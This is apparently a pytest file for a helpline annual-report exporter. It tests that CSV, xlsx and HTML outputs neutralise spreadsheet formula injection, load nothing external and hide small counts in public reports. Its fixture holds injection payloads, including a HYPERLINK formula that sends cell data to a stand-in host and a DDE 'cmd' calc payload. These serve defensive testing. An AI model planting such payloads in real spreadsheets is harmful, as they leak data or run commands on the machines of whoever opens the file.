"""`helpline report` in each format: self-contained HTML with SVG charts, CSV and xlsx safe against formula
injection, the public version hidden in every format alike."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy.ext.asyncio import AsyncEngine

from intake.report_render import safe_cell
from intake.storage.db import make_database
from intake.storage.models import StatRecordRow
from tests.records import seed_2022 as seed
from tests.records.test_disclosure import fill, seed_activities
from tests.records.test_import import helpline

# Before country background was a code, the close form stored what staff typed.
# (at most 32 characters, as the column held them)
TYPED = ['=HYPERLINK("http://e.vil/?"&A1)', "@SUM(1+1)*cmd|' /C calc'!A0", "+47 Norge", "-Syria"]


@pytest.fixture
async def year_2022(engine: AsyncEngine) -> AsyncEngine:
    db = make_database(engine)
    await fill(db, seed.individual_records(), seed_activities())
    async with db.uow() as uow:
        uow.session.add_all(
            StatRecordRow(month="2022-06", channel="webchat", kind="individual", topics=[], country=typed)
            for typed in TYPED for _ in range(5)
        )  # fmt: skip
        await uow.commit()
    return engine


async def report(database_url: str, tmp_path: Path, fmt: str, *extra: str) -> bytes:
    out = tmp_path / f"report.{fmt}"
    args = ("report", "--year", "2022", "--format", fmt, "--out", str(out), *extra)
    result = await helpline(database_url, tmp_path, *args)
    assert (result.returncode, result.stderr) == (0, ""), result.stderr
    return out.read_bytes()


@pytest.mark.parametrize("text", ["=1+2", "+1", "-1", "@x", "\t=1", "\r=1"])
def test_a_text_that_would_be_a_formula_is_kept_as_text(text: str) -> None:
    assert safe_cell(text) == "'" + text
    assert safe_cell("Somalia") == "Somalia"
    assert safe_cell(-3) == -3


async def test_csv_cells_never_start_a_formula(
    year_2022: AsyncEngine, database_url: str, tmp_path: Path
) -> None:
    body = (await report(database_url, tmp_path, "csv")).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body)))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert any(cell == "'" + TYPED[0] for cell in cells)
    assert ["Førstegangshenvendelser", "total", "Totalt", str(88 + 20)] in rows


async def test_the_workbook_holds_text_not_formulas_and_the_charts_as_images(
    year_2022: AsyncEngine, database_url: str, tmp_path: Path
) -> None:
    workbook = load_workbook(io.BytesIO(await report(database_url, tmp_path, "xlsx", "--lang", "en")))
    sheet, charts = workbook.worksheets
    values = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert [c.coordinate for c in values if c.data_type == "f"] == []
    assert "'" + TYPED[1] in [c.value for c in values]
    assert "Annual report 2022: first-time contacts and follow-up" in [c.value for c in values]
    assert len(charts._images) == 4


async def test_the_html_page_is_self_contained_with_svg_charts(
    year_2022: AsyncEngine, database_url: str, tmp_path: Path
) -> None:
    page = (await report(database_url, tmp_path, "html")).decode()
    assert page.count("<svg") == 4
    # Nothing fetched from anywhere: no scripts, styles, images or fonts by address.
    assert not re.search(r"<script|<link|<img|<iframe|src=|@import|url\((?!#)", page)
    assert not re.search(r'href="(?!#)', page)
    assert "Årsrapport 2022" in page
    # What staff once typed is shown as text, not as markup.
    assert "&#34;http://e.vil/?&#34;" in page or "&quot;http://e.vil/?&quot;" in page


async def test_the_public_report_hides_the_same_cells_in_every_format(
    year_2022: AsyncEngine, database_url: str, tmp_path: Path
) -> None:
    public = json.loads(await report(database_url, tmp_path, "json", "--public"))
    full = json.loads(await report(database_url, tmp_path, "json"))
    assert full["by_month"]["2022-04"] == 4
    assert public["by_month"]["2022-04"] == "<5"
    hidden = {k for k, v in public["by_month"].items() if isinstance(v, str)}
    assert len(hidden) >= 2
    rows = list(
        csv.reader(io.StringIO((await report(database_url, tmp_path, "csv", "--public")).decode("utf-8-sig")))
    )
    shown = {
        row[1]: row[3] for row in rows if row[1].startswith("2022-") and row[0].startswith("Førstegangs")
    }
    assert {k for k, v in shown.items() if not v.isdigit()} == hidden
    page = (await report(database_url, tmp_path, "html", "--public")).decode()
    assert '<td class="n">&lt;5</td>' in page
